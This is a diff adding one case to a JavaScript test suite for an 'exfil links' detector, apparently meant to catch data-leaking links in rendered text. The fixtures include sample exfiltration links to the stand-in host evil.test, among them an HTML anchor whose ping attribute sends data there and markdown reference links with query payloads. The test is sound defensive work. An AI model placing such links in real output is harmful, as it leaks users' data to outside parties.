@@ -229,6 +229,8 @@ test('exfil links: destinations with balanced or escaped parentheses, titles too
   assert.deepEqual(spans('[[a]](https://trusted.example/x) [`]`](<https://trusted.example/y>)'), []);
   // images_only still reads links (and leaves them alone): their tails are not taken for unknown openers.
   assert.deepEqual(createExfilLinksDetector({ id: 'e', imagesOnly: true }).scan('[x](https://evil.test/a) [y](https://evil.test/b "t" junk)', ctx), []);
+  // A link's ping URL is fetched on a click, whatever its href.
+  assert.deepEqual(spans('<a href="https://trusted.example/" ping="https://evil.test/p?d=1">x</a>'), [['<a href="https://trusted.example/" ping="https://evil.test/p?d=1">x</a>', 'html link']]);
   assert.deepEqual(spans('[a\\\\](https://evil.test/?q=S)'), [['[a\\\\](https://evil.test/?q=S)', 'markdown link']]);
   assert.deepEqual(spans('[r\\]x]\n\n[R\\]X]: https://evil.test/r'), [['[r\\]x]', 'markdown reference link'], ['[R\\]X]: https://evil.test/r', 'markdown reference definition']]);
 });
